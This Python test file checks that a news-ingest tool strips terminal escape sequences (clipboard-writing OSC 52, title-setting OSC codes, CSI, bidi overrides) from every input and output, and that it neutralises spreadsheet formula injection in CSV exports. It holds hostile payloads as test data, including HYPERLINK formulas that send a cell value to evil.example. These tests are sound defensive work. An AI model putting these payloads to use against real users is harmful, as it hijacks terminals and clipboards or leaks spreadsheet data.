"""Nothing a source sends reaches the terminal raw (issue 11).

Every way text comes in (front matter, file names, feed fields, URLs) and
every way it goes out (error and progress lines, `watch` lines, toasts, CSV
and JSON exports) is tried with escape sequences, OSC 52 / OSC 0/2, CSI,
a C1 control and bidi overrides.  Stored values hold none of them; printed
values show them as symbols."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from sqlmodel import select
from tui_fixtures import make_app, settle, sync

from movesboard.cli import main
from movesboard.console import say
from movesboard.ingest.document import ArticleDoc, IngestError
from movesboard.ingest.text import parse_text_article
from movesboard.models.db import Database
from movesboard.models.export import csv_cell, json_line
from movesboard.models.tables import Article
from movesboard.tui.ingest_screen import IngestScreen
from movesboard.untrusted import has_unsafe, strip, visible

OSC52 = "\x1b]52;c;cHduZWQtdmlhLXdhdGNo\x07"  # writes "pwned-via-watch" to the clipboard
OSC2 = "\x1b]2;PWNED\x07"  # sets the window title
CSI = "\x1b[31m"
C1_CSI = "\x9b31m"
BIDI = "\u202eevil\u202c\u2066x\u2069"
HOSTILE = [OSC52, OSC2, CSI, C1_CSI, BIDI, "\x1b]0;t\x1b\\"]
RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\u202c", "\u2066", "\u2069")

BODY = "Ada Lovelace has joined Beta Corp from Alpha Labs.\n"


def assert_clean(text: str) -> None:
    found = [repr(c) for c in RAW if c in text]
    assert not found, f"raw control characters leaked: {found}"


# -- the two gates ---------------------------------------------------------------


@pytest.mark.parametrize("attack", HOSTILE)
def test_strip_drops_and_visible_shows_every_unsafe_character(attack: str) -> None:
    assert not has_unsafe(strip(f"a{attack}b"))
    shown = visible(f"a{attack}b")
    assert_clean(shown)
    assert shown.startswith("a") and shown.endswith("b")
    # A near miss: tabs, newlines in a body, accents and CJK are text, kept as they are.
    assert strip("é\t中\nß") == "é\t中\nß"


def test_a_one_line_message_cannot_forge_a_second_line() -> None:
    assert visible("a.txt\nnew: fake") == "a.txt␤new: fake"
    assert visible("a\nb", one_line=False) == "a\nb"


def test_every_reader_output_is_cleaned_where_it_enters() -> None:
    doc = ArticleDoc(
        source=f"x{OSC2}.txt",
        title=f"T{OSC52}",
        body=f"B{CSI}ody\n\nmore",
        url=f"https://e.example/{C1_CSI}",
        site=f"S{BIDI}",
        author=f"A{OSC2}",
        language="en",
    )
    for value in (doc.source, doc.title, doc.body, doc.url, doc.site, doc.author):
        assert value is not None and not has_unsafe(value)
    assert doc.body == "B[31mody\n\nmore"


def test_an_error_names_its_source_without_sending_it() -> None:
    error = IngestError(f"bad{OSC2}.txt", f"cannot read {CSI}")
    assert_clean(str(error))
    assert "␛]2;PWNED␇" in str(error)


# -- ways in -----------------------------------------------------------------------


def test_front_matter_escapes_decode_to_nothing_stored() -> None:
    text = (
        "---\n"
        'title: "x\\e]52;c;cHduZWQ=\\a\\e]2;PWNED\\a"\n'
        'source: "Wire\\x9b31m \\u202eevil"\n'
        'url: "https://e.example/\\e]2;t\\a"\n'
        "language: en\n"
        "---\n" + BODY
    )
    doc = parse_text_article(text, "front.txt")
    assert doc.title == "x]52;c;cHduZWQ=]2;PWNED"
    for value in (doc.title, doc.site, doc.url):
        assert value is not None and not has_unsafe(value)


def _stored(db: Path) -> list[Article]:
    database = Database.open(str(db))
    with database.session() as session:
        return list(session.exec(select(Article)).all())


def test_a_hostile_file_name_is_stored_clean_and_printed_visible(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good = tmp_path / f"good{OSC2}.txt"
    good.write_text(f"---\ntitle: Fine\nlanguage: en\n---\n{BODY}", encoding="utf-8")
    bad = tmp_path / f"bad{OSC52}{BIDI}.txt"
    bad.write_text("", encoding="utf-8")
    db = tmp_path / "t.db"
    code = main(["--db", str(db), "ingest", str(good), str(bad)])
    out, err = capsys.readouterr()
    assert code == 1
    assert_clean(out + err)
    assert "bad␛]52;c;" in err  # named, visibly
    [article] = _stored(db)
    assert not has_unsafe(article.source) and not has_unsafe(article.title)


class _FeedHandler(BaseHTTPRequestHandler):
    """A feed whose entry links carry escape sequences as character references."""

    def do_GET(self) -> None:
        port = self.server.server_address[1]
        link = f"http://127.0.0.1:{port}/missing&#x1b;]2;PWNED&#x7;&#x9b;31m&#x202e;"
        feed = (
            '<?xml version="1.0"?><rss version="2.0"><channel><title>t&#x1b;]2;x&#x7;</title>'
            f"<item><title>Entry&#x1b;[31m</title><link>{link}</link>"
            "<description>Ada Lovelace has joined Beta Corp.</description></item>"
            "</channel></rss>"
        ).encode()
        if self.path != "/feed.xml":
            self.send_error(404)
            return
        self.send_response(200)
        self.send_header("Content-Type", "application/rss+xml")
        self.send_header("Content-Length", str(len(feed)))
        self.end_headers()
        self.wfile.write(feed)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def feed_server() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _FeedHandler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}/feed.xml"
    server.shutdown()
    server.server_close()


def test_a_feed_link_with_escapes_never_reaches_the_terminal(
    feed_server: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = tmp_path / "f.db"
    main(["--db", str(db), "ingest", feed_server, "--timeout", "5"])
    out, err = capsys.readouterr()
    assert_clean(out + err)
    for article in _stored(db):
        for value in (article.source, article.title, article.url or "", article.site or ""):
            assert not has_unsafe(value)


# -- ways out ----------------------------------------------------------------------


def test_every_cli_line_goes_through_the_console_gate() -> None:
    """No command prints on its own: a new `print(` would bypass `visible`."""
    root = Path(__file__).resolve().parent.parent / "movesboard"
    offenders = [
        p.name
        for p in [root / "cli.py", *sorted((root / "commands").glob("*.py"))]
        if "print(" in p.read_text(encoding="utf-8")
    ]
    assert offenders == []


def test_say_shows_what_a_line_carries(capsys: pytest.CaptureFixture[str]) -> None:
    say(f"new: T{OSC52} <- a{BIDI}.txt")
    out = capsys.readouterr().out
    assert_clean(out)
    assert out.count("\n") == 1


def test_old_rows_with_controls_export_safely() -> None:
    """A database written before ingest cleaned everything may still hold raw
    controls: CSV shows them, JSON escapes them and keeps the value exact."""
    raw = f"T{OSC2}{C1_CSI}{BIDI}"
    assert_clean(csv_cell(raw))
    line = json_line({"title": raw})
    assert_clean(line)
    assert json.loads(line) == {"title": raw}


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_would_run_as_a_formula_stays_text(lead: str) -> None:
    cell = csv_cell(f'{lead}HYPERLINK("http://evil.example/?x="&A1,"click")')
    assert cell.startswith("'")
    # A near miss: the same characters later in a cell are left alone.
    assert csv_cell("A=B+C-D@E") == "A=B+C-D@E"
    assert csv_cell(0.5) == 0.5


def test_csv_export_neutralises_a_formula_title(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    article = tmp_path / "f.txt"
    article.write_text(
        '---\ntitle: "=HYPERLINK(\\"http://evil.example/\\",\\"click\\")"\n'
        f"published: 2025-03-04\nlanguage: en\n---\n{BODY}",
        encoding="utf-8",
    )
    db = tmp_path / "c.db"
    assert main(["--db", str(db), "ingest", str(article)]) == 0
    capsys.readouterr()
    assert main(["--db", str(db), "export", "moves", "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows and rows[0]["article_title"].startswith("'=HYPERLINK(")


@sync
async def test_the_ingest_toast_shows_a_hostile_name_visibly(
    tui_fixture_db: Path, tmp_path: Path
) -> None:
    missing = tmp_path / f"gone{OSC2}.txt"
    app = make_app(tui_fixture_db)
    async with app.run_test(size=(120, 36), notifications=True) as pilot:
        await settle(pilot)
        await pilot.press("i")
        assert isinstance(app.screen, IngestScreen)
        app.screen.query_one("Input").value = str(missing)  # type: ignore[attr-defined]
        await pilot.press("enter")
        for _ in range(30):
            await asyncio.sleep(0.1)
            if app._notifications:
                break
        messages = [n.message for n in app._notifications]
        assert messages, "no toast"
        for message in messages:
            assert_clean(message)
        assert any("gone␛]2;PWNED␇" in m for m in messages)
